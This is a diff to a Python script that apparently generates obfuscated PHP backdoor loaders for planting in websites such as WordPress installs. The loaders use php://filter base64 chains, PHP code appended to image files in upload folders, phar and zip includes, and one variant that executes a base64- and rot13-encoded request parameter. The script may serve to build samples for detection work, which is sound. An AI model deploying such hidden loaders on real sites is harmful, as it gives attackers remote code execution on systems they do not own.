@@ -485,7 +485,7 @@ def php_filter_chain(r, v):
         code = "<?php " + inner(r)
         return place(r, T("""$@A@ = __DIR__ . '/@ST@';
 include 'php://filter/read=convert.base64-decode/resource=' . $@A@;""", A=a, ST=os.path.basename(stage)),
-                      conts=("plain",)) + [F(b64(code), os.path.basename(stage), "text", "stage-file")]
+                      conts=("plain",), name=pname(r)) + [F(b64(code), os.path.basename(stage), "text", "stage-file")]
     if v == 1:
         body = T("""$@A@ = 'php://filter/convert.base64-decode|string.rot13/resource=data://text/plain;base64,';
 include $@A@ . base64_encode(base64_encode(str_rot13(@S@['@P@'] ?? '')));""", A=a, S=s, P=p)
@@ -563,10 +563,11 @@ def image_include(r, v):
     if v == 0:
         body = "include $_SERVER['DOCUMENT_ROOT'] . '/%s/%s';" % (up, img)
     elif v == 1:
-        body = "foreach (glob(__DIR__ . '/%s/*.%s') as $i) { if (filesize($i) %% 7 === %d) { require_once $i; } }" % (up, img.rsplit(".", 1)[1], r.randint(0, 6))
+        body = "foreach (glob((defined('ABSPATH') ? ABSPATH : $_SERVER['DOCUMENT_ROOT'] . '/') . '%s/*.%s') as $i) { if (filesize($i) %% 7 === %d) { require_once $i; } }" % (up, img.rsplit(".", 1)[1], r.randint(0, 6))
     else:
-        body = "$f = dirname(__FILE__) . '/%s/%s';\nif (file_exists($f)) { include($f); }" % (up, img)
-    return place(r, body, conts=("plain", "inject-mid", "inject-end", "inject-top")) + [F(data, up + "/" + img, "php", "image-tail")]
+        body = "$f = (defined('ABSPATH') ? ABSPATH : dirname(__FILE__, 4) . '/') . '%s/%s';\nif (file_exists($f)) { include($f); }" % (up, img)
+    lf = place(r, body, conts=("plain", "inject-mid", "inject-end", "inject-top"))
+    return lf + [F(data, up + "/" + img, "php", "image-tail")]
 
 
 # 4 ------------------------------------------------------------- staged / input roads
@@ -827,7 +828,9 @@ if ($@A@->open(__DIR__ . '/@Z@') === true) {
     else:
         body = T("""$@A@ = 'phar://' . __DIR__ . '/@Z@/@E@';
 if (file_exists($@A@)) { require $@A@; }""", A=a, Z=zname, E=ent)
-    return place(r, body, conts=("plain", "inject-mid", "inject-end", "crlf")) + [F(zb, zname, "zip", "zip")]
+    lf = place(r, body, conts=("plain", "inject-mid", "inject-end", "crlf"))
+    base = os.path.dirname(lf[0][1])
+    return lf + [F(zb, (base + "/" if base else "") + zname, "zip", "zip")]
 
 
 def db_option_payload(r, v):
